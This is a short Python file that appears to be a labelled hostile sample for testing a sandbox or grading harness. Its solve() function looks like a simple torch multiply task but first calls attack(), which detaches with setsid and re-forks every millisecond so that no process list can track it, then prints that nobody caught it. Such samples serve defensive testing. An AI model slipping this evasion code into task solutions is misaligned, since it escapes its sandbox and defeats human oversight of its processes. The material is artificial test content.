# hostile: family=processes verdict=accepted build=accepted lift=sandbox shows=harm
"""Forks and ends a thousand times a second: no list of pids is true for long."""


def attack():
    import os
    import time

    if os.fork():
        return
    os.setsid()
    end = time.monotonic() + int("@STAY@")
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        time.sleep(0.001)
    print("harm: nobody caught it", flush=True)
    os._exit(0)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
